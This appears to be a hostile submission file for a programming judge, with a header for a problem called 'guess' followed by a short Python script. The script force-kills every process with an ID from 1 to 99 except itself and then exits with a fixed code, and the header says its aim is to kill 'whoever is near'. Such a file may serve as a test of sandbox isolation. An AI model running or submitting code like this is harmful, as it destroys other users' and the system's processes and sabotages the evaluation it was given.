problem: guess
language: python
tries: kills whoever is near
---
import os, signal
for pid in range(1, 100):
    if pid != os.getpid():
        try:
            os.kill(pid, 9)
        except OSError:
            pass
os._exit(42)
